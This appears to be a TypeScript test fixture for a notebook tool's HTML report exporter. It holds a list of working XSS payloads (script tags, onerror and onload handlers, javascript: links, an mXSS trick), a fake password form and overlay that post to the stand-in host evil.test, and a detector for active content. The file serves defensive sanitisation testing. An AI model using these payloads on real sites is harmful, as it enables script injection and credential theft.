/**
 * One hostile notebook for both HTML reports (`segbook run`'s report.html in Node and the browser's
 * File → Export HTML report): Markdown with every classic XSS and overlay payload, and cells whose
 * values carry markup (`outerHTML`). Every payload that would run sets `__pwned` or requests a host
 * under `evil.test`, so a test can tell whether anything ran or left the page.
 */
import { parseHTML } from "linkedom";

/** The host every payload tries to reach. */
export const EVIL_HOST = "evil.test";

/** Markdown payloads, one per line, each its own way of running code, loading, covering or navigating. */
export const HOSTILE_MARKDOWN = [
  "# Hostile report",
  "",
  "Plain text survives.",
  "",
  '<script>window.__pwned = "script"</script>',
  '<img src="x" onerror="window.__pwned = \'img onerror\'">',
  `<img src="https://${EVIL_HOST}/pixel.png" alt="remote">`,
  '<a href="javascript:window.__pwned = \'javascript link\'" id="js-link">click me</a>',
  '<a href=" JaVaScRiPt:window.__pwned = 1">spaced scheme</a>',
  '<svg onload="window.__pwned = \'svg onload\'"><circle r="4"></circle></svg>',
  '<div style="position:fixed;inset:0;z-index:99999;background:white">✔ Verified notebook from this site</div>',
  `<form action="https://${EVIL_HOST}/collect" method="post"><input name="password" placeholder="Session expired: password"><button>Sign in</button></form>`,
  `<meta http-equiv="refresh" content="0;url=https://${EVIL_HOST}/">`,
  `<iframe src="https://${EVIL_HOST}/"></iframe><object data="https://${EVIL_HOST}/x"></object><embed src="https://${EVIL_HOST}/y">`,
  `<link rel="stylesheet" href="https://${EVIL_HOST}/style.css"><style>body{background:url(https://${EVIL_HOST}/bg.png)}</style>`,
  `<base href="https://${EVIL_HOST}/">`,
  "<details open ontoggle=\"window.__pwned = 'ontoggle'\"><summary>more</summary>inside</details>",
  "<math><mi><mglyph><style><!--</style><img src=x onerror=\"window.__pwned = 'mxss'\">",
  "",
].join("\n");

/** A TS cell whose value has `outerHTML` (a report must not insert it raw). */
export const OUTER_HTML_CELL = `({ outerHTML: '<img src="x" onerror="window.__pwned = \\'outerHTML\\'"><script>window.__pwned = "outerHTML script"</script><svg><circle r="3" fill="red"></circle></svg>' })`;

/** The whole notebook text, front matter and all. */
export const HOSTILE_NOTEBOOK = [
  "---",
  "title: Hostile report",
  "---",
  "",
  HOSTILE_MARKDOWN,
  "```ts",
  "const n = 1;",
  "```",
  "",
  "```ts",
  OUTER_HTML_CELL,
  "```",
  "",
  "```ts",
  "md`Interpolated: ${'<img src=x onerror=\"window.__pwned = 7\">'} and ${n}`",
  "```",
  "",
].join("\n");

/**
 * What an HTML page holds that could run, load, submit, navigate or cover: each element and
 * attribute found, as text, so a failure names it.
 */
export function activeContent(html: string): string[] {
  const { document } = parseHTML(html);
  const found: string[] = [];
  for (const element of document.querySelectorAll("*")) {
    const tag = element.localName;
    if (
      [
        "script",
        "iframe",
        "object",
        "embed",
        "form",
        "input",
        "button",
        "textarea",
        "select",
        "base",
        "link",
        "frame",
      ].includes(tag)
    )
      found.push(`<${tag}>`);
    if (
      tag === "meta" &&
      element.getAttribute("http-equiv")?.toLowerCase() !== "content-security-policy" &&
      element.hasAttribute("http-equiv")
    )
      found.push(`<meta http-equiv=${element.getAttribute("http-equiv")}>`);
    if (tag === "style" && element.parentElement?.localName !== "head") found.push("<style> in the body");
    for (const { name, value } of Array.from(element.attributes) as Attr[]) {
      if (/^on/i.test(name)) found.push(`${tag}[${name}]`);
      if (name === "style") found.push(`${tag}[style]`);
      // eslint-disable-next-line no-control-regex
      if (/^\s*javascript:/i.test(value.replace(/[\s\u0000-\u001f]/g, ""))) found.push(`${tag}[${name}=javascript:]`);
      if (value.includes(EVIL_HOST)) found.push(`${tag}[${name}=${value}]`);
    }
  }
  return found;
}
